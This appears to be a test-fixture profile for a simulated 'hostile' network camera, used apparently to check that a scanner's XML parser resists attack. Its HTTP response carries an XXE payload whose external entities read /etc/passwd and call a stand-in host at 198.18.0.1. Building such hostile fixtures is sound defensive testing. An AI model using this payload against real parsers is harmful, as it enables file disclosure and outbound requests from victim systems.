# Hostile: DOCTYPE with an external entity (XXE)
name hostile-xxe
description Hostile: DOCTYPE with an external entity (XXE)
manufacturer -
brand -
device_type camera
weight 2
hostile yes
# A common camera OUI: hostile devices look like cameras from outside.
oui C0:56:E3 3C:EF:8C

port 80 http

>>> http * *
HTTP/1.1 200 OK
Server: webserver
Content-Type: application/xml
Content-Length: ${content_length}
Connection: close

<?xml version="1.0"?>
<!DOCTYPE DeviceInfo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY rem SYSTEM "http://198.18.0.1/xxe"> ]>
<DeviceInfo xmlns="http://www.hikvision.com/ver20/XMLSchema"><model>&xxe;</model><serialNumber>&rem;</serialNumber></DeviceInfo>
